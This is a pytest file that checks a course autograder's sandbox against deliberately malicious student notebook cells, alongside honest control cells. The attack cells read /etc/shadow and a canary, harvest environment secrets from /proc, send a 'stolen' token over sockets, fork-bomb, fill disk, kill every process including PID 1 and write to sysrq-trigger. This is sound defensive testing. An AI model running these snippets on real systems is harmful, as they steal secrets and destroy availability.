"""The grading sandbox against what a student could write: one batch of the fixture
assignment's solution with one extra cell each (``ATTACKS``, ``HONEST``), graded once by
the tool (``make grade``'s code path) while this test holds a canary file, a world-writable
folder, a secret environment variable and a TCP listener on 127.0.0.1 outside the sandbox.

An attack cell raises ``RuntimeError('LEAKED ...')`` when it reaches anything of the
machine, so its row would say so; the test also checks the machine itself afterwards (the
listener's log, the files, the process table). ``test_the_attacks_work_without_a_sandbox``
runs the same reading, writing, environment and network code in a plain process here,
to show that each one would succeed if nothing stopped it.
"""
from __future__ import annotations

import os
import secrets
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import nbformat
import pytest

from grading.grading_cases import notebook, read_gradebook, run_tool, tool_env

pytestmark = pytest.mark.slow

TOKEN = "acgrade-secret-" + secrets.token_hex(6)
DAEMON_MARK = f"{secrets.randbelow(10**6)}.{secrets.randbelow(10**3):03d}"  # a unique `sleep` argument


class Listener(threading.Thread):
    """A TCP service on 127.0.0.1 (and an abstract Unix socket) that records every connection."""

    def __init__(self):
        super().__init__(daemon=True)
        self.tcp = socket.create_server(("127.0.0.1", 0))
        self.port = self.tcp.getsockname()[1]
        self.abstract = f"\0acgrade-test-{secrets.token_hex(4)}"
        self.unix = socket.socket(socket.AF_UNIX)
        self.unix.bind(self.abstract)
        self.unix.listen(4)
        self.got: list[bytes] = []
        self.stop = threading.Event()

    def run(self):
        for s in (self.tcp, self.unix):
            s.settimeout(0.2)
        while not self.stop.is_set():
            for s in (self.tcp, self.unix):
                try:
                    conn, _ = s.accept()
                except OSError:
                    continue
                with conn:
                    conn.settimeout(1)
                    try:
                        self.got.append(conn.recv(1000) or b"<connected>")
                    except OSError:
                        self.got.append(b"<connected>")

    def close(self):
        self.stop.set()
        self.join(timeout=5)
        self.tcp.close()
        self.unix.close()


# what the tool gives a kernel, and what ipykernel and matplotlib set in it themselves
KERNEL_VARS = {"PATH", "HOME", "LANG", "OMP_NUM_THREADS", "MKL_NUM_THREADS", "OPENBLAS_NUM_THREADS",
               "PYDEVD_DISABLE_FILE_VALIDATION", "JUPYTER_PLATFORM_DIRS", "PYTHONNOUSERSITE", "VIRTUAL_ENV",
               "MPLBACKEND", "PWD", "TERM", "CLICOLOR", "CLICOLOR_FORCE", "FORCE_COLOR", "PAGER", "GIT_PAGER"}


def host_vars(env: dict) -> set[str]:
    """The instructor's variables: every name in the tool's environment but the kernel's own."""
    return {k for k in env if k not in KERNEL_VARS and not k.startswith("ACGRADE_")}


def _leak_check(found: str) -> str:
    return f"if {found}:\n    raise RuntimeError('LEAKED ' + repr({found})[:300])\n"


def attacks(ctx: dict) -> dict[str, str]:
    """Cells a student with bad intent could append (each to an otherwise correct notebook)."""
    home, canary, drop, repo, subs = ctx["home"], ctx["canary"], ctx["drop"], ctx["repo"], ctx["subs"]
    return {
        "a_read": ("import os, glob\nfound = []\n"
                   f"for p in [{str(canary)!r}, {str(repo / 'Makefile')!r}, '/etc/shadow']:\n"
                   "    try:\n        found.append(open(p).read()[:50])\n    except OSError:\n        pass\n"
                   f"for d in [{str(repo / 'solutions')!r}, '/home', {str(repo)!r}]:\n"
                   "    try:\n        found += os.listdir(d)\n    except OSError:\n        pass\n"
                   # the home folder: only the empty folders on the way to the grading environment
                   # (bound at its real path) may show; any file in it, the canary among them, is a leak
                   f"for d in [{home!r}, '/root']:\n"
                   "    try:\n        found += [n for n in os.listdir(d) if not os.path.isdir(os.path.join(d, n))]\n"
                   "    except OSError:\n        pass\n"
                   f"found += glob.glob({home!r} + '/.acgrade-canary-*')\n"
                   + _leak_check("found")),
        "a_write": ("import os\nwrote = []\n"
                    f"for p in [{str(drop / 'from_sandbox.txt')!r}, {os.path.join(home, 'acgrade-' + TOKEN)!r},\n"
                    f"          {'/tmp/acgrade-shared-' + TOKEN!r}, {str(repo / ('acgrade-' + TOKEN))!r}]:\n"
                    "    try:\n        open(p, 'w').write('x'); wrote.append(p)\n    except OSError:\n        pass\n"
                    # the shared /tmp path is writable in the sandbox's private /tmp too; the test
                    # checks the host's /tmp afterwards (other paths may lie under the host's /tmp
                    # when the checkout does: they must not be writable from inside)
                    f"wrote = [p for p in wrote if p != {'/tmp/acgrade-shared-' + TOKEN!r}]\n" + _leak_check("wrote")),
        "a_env": ("import os\nfrom IPython.utils.process import getoutput\n"
                  f"found = [k for k, v in os.environ.items() if {TOKEN!r} in v]\n"
                  "if " + repr(TOKEN) + " in getoutput('cat /proc/[0-9]*/environ'):\n"
                  "    found.append('/proc/*/environ')\n"
                  # any variable of the instructor's shell by name (the few a kernel is given aside)
                  f"found += sorted(set(os.environ) & set({sorted(ctx['host_vars'])!r}))\n" + _leak_check("found")),
        "a_network": ("import socket\nfound = []\n"
                      f"for addr in [('127.0.0.1', {ctx['port']}), ('1.1.1.1', 53)]:\n"
                      "    try:\n        s = socket.create_connection(addr, timeout=2)\n"
                      f"        s.sendall(b'stolen {TOKEN}'); found.append(addr)\n    except OSError:\n        pass\n"
                      "u = socket.socket(socket.AF_UNIX)\n"
                      f"try:\n    u.connect({ctx['abstract']!r}); u.sendall(b'stolen'); found.append('abstract')\n"
                      "except OSError:\n    pass\n" + _leak_check("found")),
        "a_others": ("import glob, os\n"
                     "found = glob.glob('/tmp/acgrade-*/**/*.ipynb', recursive=True)\n"
                     f"found += glob.glob({str(subs)!r} + '/*')\n"
                     "found += [p for p in glob.glob('/autograder/**', recursive=True) if 'victim' in p]\n"
                     "for top in ['/tmp', '/home', '/root', '/work', '/var', '/srv', '/mnt', '/opt', '/autograder/grader']:\n"
                     "    for d, dirs, files in os.walk(top):\n"
                     "        dirs[:] = [x for x in dirs if x not in ('lib', 'site-packages', 'include', 'share')]\n"
                     "        found += [os.path.join(d, f) for f in files if f.endswith('.ipynb')]\n"
                     + _leak_check("found")),
        "a_daemon": f"get_ipython().system_raw('setsid sleep {DAEMON_MARK} > /dev/null 2>&1 &')\n",
        "a_forkbomb": "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n",
        # A flood of shell processes that stay alive (the recursive dash bomb is no test:
        # under the cap its shells exit at their first failed fork, so it dies out by
        # itself within a second or so, contained, at a moment the watchdog may not see).
        "a_shellbomb": ("import time\n"
                        "get_ipython().system_raw(\"/bin/sh -c 'for i in $(seq 400); do sleep 60 & done' &\")\n"
                        "time.sleep(30)\n"),
        "a_diskfill": ("import os\nn = 0\n"
                       "for d in ['.', '/tmp', '/dev/shm']:\n"
                       "    for i in range(1000):\n"
                       "        try:\n"
                       "            with open(os.path.join(d, f'fill{i}'), 'wb') as f:\n"
                       "                f.write(b'x' * 2**24)\n"
                       "            n += 1\n"
                       "        except OSError:\n"
                       "            break\n"
                       "print(n, 'files of 16 MiB')\n"
                       "open('fill-last', 'wb').write(b'x' * 2**24)\n"),
        "a_kill_os": ("import os, signal\n"
                      "for pid in [os.getppid()] + [int(p) for p in os.listdir('/proc') if p.isdigit()]:\n"
                      "    if pid != os.getpid():\n"
                      "        try:\n            os.kill(pid, signal.SIGKILL)\n        except OSError:\n            pass\n"),
        "a_kill_subprocess": ("import os, subprocess\n"
                              "pids = [p for p in os.listdir('/proc') if p.isdigit() and int(p) != os.getpid()]\n"
                              "subprocess.run(['kill', '-9', str(os.getppid()), *pids], capture_output=True)\n"
                              "subprocess.run(['pkill', '-9', '-f', 'course_tools'], capture_output=True)\n"
                              "subprocess.run(['pkill', '-9', 'make'], capture_output=True)\n"),
        "a_kill_shell": ("import os\n"
                         "pids = [p for p in os.listdir('/proc') if p.isdigit() and int(p) != os.getpid()]\n"
                         "get_ipython().system_raw(' '.join(['kill', '-9', str(os.getppid()), *pids]) + ' 2>/dev/null')\n"
                         "get_ipython().system_raw('pkill -9 -f course_tools; pkill -9 make')\n"),
        "a_kill_ctypes": ("import ctypes, os\nlibc = ctypes.CDLL(None)\n"
                          "libc.kill(os.getppid(), 9)\nlibc.kill(1, 9)\n"),
        "a_proc": ("import os\nfound = []\n"
                   "pids = [p for p in os.listdir('/proc') if p.isdigit()]\n"
                   "if len(pids) > 12:\n    found.append(f'{len(pids)} processes visible')\n"
                   "cmds = get_ipython().getoutput('cat /proc/[0-9]*/cmdline', split=False)\n"
                   "if 'pytest' in cmds or 'course_tools' in cmds:\n    found.append(cmds[:80])\n"
                   f"for p in ['/proc/1/root' + {str(canary)!r}, '/proc/self/root' + {str(canary)!r}]:\n"
                   "    try:\n        found.append(open(p).read())\n    except OSError:\n        pass\n"
                   "try:\n    open('/proc/sysrq-trigger', 'w').write('b'); found.append('sysrq')\nexcept OSError:\n    pass\n"
                   + _leak_check("found")),
    }


HONEST = {
    "h_digits": ("from sklearn.datasets import load_digits\nfrom sklearn.linear_model import LogisticRegression\n"
                 "X, y = load_digits(return_X_y=True)\nassert X.shape == (1797, 64)\n"
                 "print(LogisticRegression(max_iter=200).fit(X[:500], y[:500]).score(X[500:], y[500:]))\n"),
    "h_savefig": ("import os\nimport matplotlib.pyplot as plt\nfig, ax = plt.subplots()\nax.plot([0, 1], [1, 0])\n"
                  "fig.savefig('figure.png')\nassert os.path.getsize('figure.png') > 1000\n"
                  "os.makedirs(os.path.expanduser('~/.cache/mine'), exist_ok=True)\n"
                  "open(os.path.expanduser('~/.cache/mine/x'), 'w').write('ok')\n"),
    "h_tempfile": ("import tempfile, os\nwith tempfile.TemporaryDirectory() as d:\n"
                   "    open(os.path.join(d, 'a.txt'), 'w').write('hello')\n"
                   "    assert open(os.path.join(d, 'a.txt')).read() == 'hello'\n"
                   "with tempfile.NamedTemporaryFile() as f:\n    f.write(os.urandom(1000)); f.flush()\n"
                   "import getpass, pwd\nprint(getpass.getuser(), pwd.getpwuid(os.getuid()).pw_dir)\n"),
    # torch with DataLoader workers (fork, /dev/shm) and plain gradient steps (torch.optim: see below)
    "h_torch": ("import torch\nfrom torch.utils.data import DataLoader, TensorDataset\ntorch.manual_seed(0)\n"
                "model = torch.nn.Sequential(torch.nn.Linear(4, 8), torch.nn.ReLU(), torch.nn.Linear(8, 1))\n"
                "data = DataLoader(TensorDataset(torch.randn(64, 4), torch.randn(64, 1)), batch_size=16, num_workers=2)\n"
                "for xb, yb in data:\n"
                "    model.zero_grad(); loss = torch.nn.functional.mse_loss(model(xb), yb); loss.backward()\n"
                "    with torch.no_grad():\n"
                "        for p in model.parameters():\n            p -= 0.1 * p.grad\n"
                "print(float(loss))\n"),
    "h_threads": ("from concurrent.futures import ThreadPoolExecutor\nimport multiprocessing as mp\n"
                  "with ThreadPoolExecutor(8) as pool:\n    assert sum(pool.map(lambda k: k * k, range(100))) == 328350\n"
                  "with mp.get_context('fork').Pool(2) as pool:\n    assert pool.map(abs, [-1, -2, 3]) == [1, 2, 3]\n"),
    # programs started through IPython's shell escape (library code: the guard lets it through)
    "h_shell": ("out = !echo hi\nassert out == ['hi'], out\n!echo hello\n"
                "assert get_ipython().getoutput('printf ok', split=False) == 'ok'\n"
                "get_ipython().system_raw('true')\n"),
}
# A known false flag of the guard, with or without the sandbox (torch.optim wraps SGD.step on
# first use, from the student's call stack): recorded here so that a fix shows.
TORCH_OPTIM = ("import torch\nmodel = torch.nn.Linear(4, 1)\nopt = torch.optim.SGD(model.parameters(), lr=0.1)\n"
               "loss = model(torch.randn(8, 4)).pow(2).mean(); loss.backward(); opt.step()\n")
# what the allowance for torch.optim's own rebinding must not let through
SGD_STEP = ("import torch\ntorch.optim.SGD.step = lambda self, closure=None: None\n" + TORCH_OPTIM)
SUPPORT = ("data = open('data/values.csv').read().split(',')\n"
           "assert [float(v) for v in data] == [1.0, 2.5, -3.0]\n")


@pytest.fixture(scope="module")
def isolation(fixhw, tmp_path_factory):
    root = tmp_path_factory.mktemp("isolation")
    subs = root / "submissions"
    subs.mkdir()
    # what the attacks look for, readable and writable by anyone: only the sandbox stops them
    outside = Path(tmp_path_factory.mktemp("outside"))
    drop = outside / "drop"
    drop.mkdir()
    canary = outside / "canary.txt"
    canary.write_text(TOKEN)
    for p in [*reversed(outside.parents[:3]), outside]:
        try:
            p.chmod(p.stat().st_mode | 0o755)
        except PermissionError:
            pass
    drop.chmod(0o777)
    canary.chmod(0o644)
    listener = Listener()
    listener.start()
    env = tool_env()
    env["INSTRUCTOR_TOKEN"] = TOKEN
    ctx = {"home": str(Path.home()), "canary": canary, "drop": drop, "repo": Path(__file__).resolve().parents[2],
           "subs": subs, "port": listener.port, "abstract": listener.abstract, "host_vars": host_vars(env)}
    home_canary = Path.home() / f".acgrade-canary-{TOKEN}"
    home_canary.write_text(TOKEN)
    cells = {**attacks(ctx), **HONEST, "victim_zz": "victim = True\n", "h_torch_optim": TORCH_OPTIM,
             "a_sgd_step": SGD_STEP}
    for name, src in cells.items():  # each under the assignment's own file name, as handed out
        (subs / name).mkdir()
        nbformat.write(notebook(fixhw["solution"], append=[src]), subs / name / "fixhw.ipynb")
    import io
    import zipfile
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("fixhw.ipynb", nbformat.writes(notebook(fixhw["solution"], append=[SUPPORT])))
        z.writestr("data/values.csv", "1.0,2.5,-3.0")
    (subs / "h_support.zip").write_bytes(buf.getvalue())
    out = root / "out" / "gradebook.csv"
    t0 = time.monotonic()
    try:
        # the default process cap: under a tight cap (128, minus the kernel's own threads) a
        # dash fork bomb can hover below the watchdog's half-cap line, seen once in CI
        proc = subprocess.run([sys.executable, "-m", "course_tools", "grade", "fixhw", str(subs),
                               "--autograder", str(fixhw["zip"]), "--out", str(out), "--jobs", "2",
                               "--timeout", "90", "--max-procs", "256", "--disk-mb", "64", "--no-progress"],
                              capture_output=True, text=True, env=env, timeout=900,
                              cwd=ctx["repo"])
    finally:
        time.sleep(0.5)
        listener.close()
        home_canary.unlink(missing_ok=True)
    wall = time.monotonic() - t0
    return {"proc": proc, "rows": read_gradebook(out) if out.exists() else {}, "listener": listener,
            "ctx": ctx, "wall": wall, "names": [*cells, "h_support"]}


def row(isolation, name):
    rows = isolation["rows"]
    key = f"{name}.zip" if name == "h_support" else f"{name}/fixhw.ipynb"
    assert key in rows, (key, sorted(rows), isolation["proc"].stderr[-3000:])
    return rows[key]


def test_the_batch_ends_with_a_row_for_every_submission(isolation):
    proc = isolation["proc"]
    assert proc.returncode == 0, proc.stdout[-2000:] + proc.stderr[-3000:]
    assert len(isolation["rows"]) == len(isolation["names"])
    assert "each in its bubblewrap sandbox" in proc.stdout


@pytest.mark.parametrize("name", ["a_read", "a_write", "a_env", "a_network", "a_others", "a_proc",
                                  "a_daemon", "a_kill_shell", "victim_zz"])
def test_blocked_attacks_reach_nothing_and_keep_the_row(isolation, name):
    r = row(isolation, name)
    assert "LEAKED" not in r["message"], r["message"]
    assert r["status"] == "graded" and float(r["total"]) == 5.0, r
    assert r["message"] == "5/5; all tests passed", r["message"]  # the attack itself ran without error


def test_nothing_reached_the_machine(isolation):
    ctx = isolation["ctx"]
    assert isolation["listener"].got == []
    assert list(ctx["drop"].iterdir()) == []
    assert not (Path(ctx["home"]) / f"acgrade-{TOKEN}").exists()
    assert not Path(f"/tmp/acgrade-shared-{TOKEN}").exists()
    assert not (ctx["repo"] / f"acgrade-{TOKEN}").exists()


def test_the_daemon_died_with_its_sandbox(isolation):
    alive = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                if DAEMON_MARK.encode() in Path(f"/proc/{entry}/cmdline").read_bytes():
                    alive.append(entry)
            except OSError:
                pass
    assert alive == []


@pytest.mark.parametrize("name", ["a_forkbomb", "a_shellbomb"])
def test_a_fork_bomb_ends_as_a_row_that_says_so(isolation, name):
    r = row(isolation, name)
    # stopped by the watchdog, or it hovered below its line and the row names the flood (on
    # a loaded machine the kernel can die under a dash bomb before the watchdog's 4th look)
    assert (r["status"] == "error" and "stopped a fork bomb" in r["message"]) or \
        (r["status"] in ("graded", "error") and "processes at once (cap 256)" in r["message"]), r


def test_a_disk_fill_is_capped_and_graded(isolation):
    r = row(isolation, "a_diskfill")
    assert r["status"] == "graded" and float(r["total"]) == 5.0, r
    assert "filled its scratch space" in r["message"] and "64 MiB" in r["message"], r


@pytest.mark.parametrize("name, says", [("a_kill_os", "called os.kill"), ("a_kill_ctypes", "used ctypes"),
                                        ("a_kill_subprocess", "started a process (subprocess.Popen: kill)")])
def test_kills_through_the_guarded_calls_are_flagged(isolation, name, says):
    """Killing through os.kill, ctypes or a program the student's code starts itself is
    blocked by the guard; the same kill through IPython's shell (``a_kill_shell``) reaches
    only the sandbox's own processes."""
    r = row(isolation, name)
    assert r["status"] == "flagged", r
    assert says in r["message"], r


@pytest.mark.parametrize("name", [*HONEST, "h_support"])
def test_honest_work_keeps_full_marks(isolation, name):
    r = row(isolation, name)
    assert r["status"] == "graded" and float(r["total"]) == 5.0, r
    says = "5/5; all tests passed" + ("; from zip (fixhw.ipynb + 1 file(s))" if name == "h_support" else "")
    assert r["message"] == says, r["message"]


def test_torch_optim_is_not_flagged(isolation):
    """torch.optim wraps SGD.step itself on the first SGD(...) (policy.LIBRARY_REBINDS)."""
    r = row(isolation, "h_torch_optim")
    assert r["status"] == "graded" and float(r["total"]) == 5.0, r["message"]
    assert r["message"] == "5/5; all tests passed", r["message"]


def test_rebinding_sgd_step_by_hand_is_still_flagged(isolation):
    r = row(isolation, "a_sgd_step")
    assert r["status"] == "flagged" and "SGD.step" in r["message"], r


def test_the_attacks_work_without_a_sandbox(tmp_path):
    """The oracle for the blocked rows: here, outside any sandbox, the same code leaks."""
    listener = Listener()
    listener.start()
    canary, drop = tmp_path / "canary.txt", tmp_path / "drop"
    canary.write_text(TOKEN)
    drop.mkdir()
    ctx = {"home": str(tmp_path / "home"), "canary": canary, "drop": drop, "repo": Path(__file__).resolve().parents[2],
           "subs": tmp_path, "port": listener.port, "abstract": listener.abstract}
    env = dict(os.environ, INSTRUCTOR_TOKEN=TOKEN)
    ctx["host_vars"] = host_vars(env)
    Path(ctx["home"]).mkdir()
    (Path(ctx["home"]) / f".acgrade-canary-{TOKEN}").write_text(TOKEN)
    cells = attacks(ctx)
    try:
        for name in ("a_read", "a_write", "a_env", "a_network"):
            proc = subprocess.run([sys.executable, "-c", cells[name]], capture_output=True, text=True,
                                  env=env, cwd=tmp_path, timeout=60)
            assert "LEAKED" in proc.stderr, (name, proc.stderr[-500:])
    finally:
        time.sleep(0.3)
        listener.close()
        Path(f"/tmp/acgrade-shared-{TOKEN}").unlink(missing_ok=True)
        (ctx["repo"] / f"acgrade-{TOKEN}").unlink(missing_ok=True)
    assert listener.got and (drop / "from_sandbox.txt").exists()


def test_unsandboxed_rows_and_summary_say_so(fixhw, tmp_path):
    subs = tmp_path / "subs"
    subs.mkdir()
    nbformat.write(notebook(fixhw["solution"]), subs / "good.ipynb")
    out = tmp_path / "out" / "gradebook.csv"
    proc = run_tool("fixhw", subs, "--autograder", fixhw["zip"], "--out", out, "--no-sandbox", "--no-progress")
    assert proc.returncode == 0, proc.stderr[-2000:]
    r = read_gradebook(out)["good.ipynb"]
    assert r["status"] == "graded" and r["message"].endswith("; unsandboxed"), r
    assert "UNSANDBOXED" in proc.stdout and "--no-sandbox" in proc.stderr


def test_without_bubblewrap_the_tool_refuses_and_says_how_to_fix_it(fixhw, tmp_path):
    subs = tmp_path / "subs"
    subs.mkdir()
    nbformat.write(notebook(fixhw["solution"]), subs / "good.ipynb")
    env = tool_env()
    env["PATH"] = str(Path(sys.executable).parent)  # no /usr/bin: no bwrap
    proc = subprocess.run([sys.executable, "-m", "course_tools", "grade", "fixhw", str(subs), "--autograder",
                           str(fixhw["zip"]), "--out", str(tmp_path / "out" / "g.csv"), "--no-progress"],
                          capture_output=True, text=True, env=env, timeout=300)
    assert proc.returncode == 2, proc.stdout + proc.stderr
    for fix in ("bubblewrap (bwrap) is not installed", "apt install bubblewrap", "apparmor_restrict_unprivileged_userns",
                "seccomp", "--docker", "--no-sandbox"):
        assert fix in proc.stderr, fix
    assert not (tmp_path / "out" / "g.csv").exists()

